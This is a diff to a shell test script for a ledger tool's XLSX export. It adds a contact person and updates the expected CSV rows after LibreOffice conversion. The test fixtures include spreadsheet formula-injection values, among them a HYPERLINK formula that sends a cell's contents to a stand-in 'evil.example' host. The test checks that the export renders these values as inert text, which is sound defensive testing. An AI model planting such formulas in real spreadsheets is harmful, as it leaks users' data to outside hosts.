@@ -11,6 +11,7 @@ new_ledger "$TMP/l"
 	--phone "+86 574 8888 1234" --note "@SUM(1)" >/dev/null
 "$GENDAN" add customer "Minus Co" --id 00123 --note "-2+3" --email ops@minus.example >/dev/null
 "$GENDAN" set haitian next=2026-12-08 >/dev/null
+"$GENDAN" person add haitian 王芳 --role 采购经理 --phone "+86 139 0000 1111" >/dev/null
 gd 0 export xlsx
 cp "$TMP/out" "$TMP/c.xlsx"
 gd 0 export xlsx customer --owner li.lei@example.com
@@ -58,9 +59,9 @@ if command -v soffice >/dev/null; then
 		--convert-to 'csv:Text - txt - csv (StarCalc):44,34,76,1' c.xlsx >/dev/null 2>&1)
 	check "LibreOffice wrote a CSV from the export" test -s "$TMP/c.csv"
 	# LibreOffice quotes text cells, not numbers or dates
-	has "$TMP/c.csv" '^"haitian","宁波海天贸易有限公司","A","active","li.lei@example.com","wang@haitian.example","\+86 138 0013 8000","CN","宁波","展会;老客户",,2026-11-23,2026-12-08,$'
+	has "$TMP/c.csv" '^"haitian","宁波海天贸易有限公司","A","active","li.lei@example.com","wang@haitian.example","\+86 138 0013 8000","CN","宁波","展会;老客户",,2026-11-23,2026-12-08,,"王芳","采购经理",'
 	has "$TMP/c.csv" '^"evil","=HYPERLINK\(""http://evil.example/\?d=""&C2,""x""\)",.*,"\+86 574 8888 1234",'
-	has "$TMP/c.csv" '^"00123","Minus Co",.*,"-2\+3"$'
+	has "$TMP/c.csv" '^"00123","Minus Co",.*,"-2\+3",'
 else
 	skip "soffice is not installed (apt-get install libreoffice-calc-nogui)"
 fi
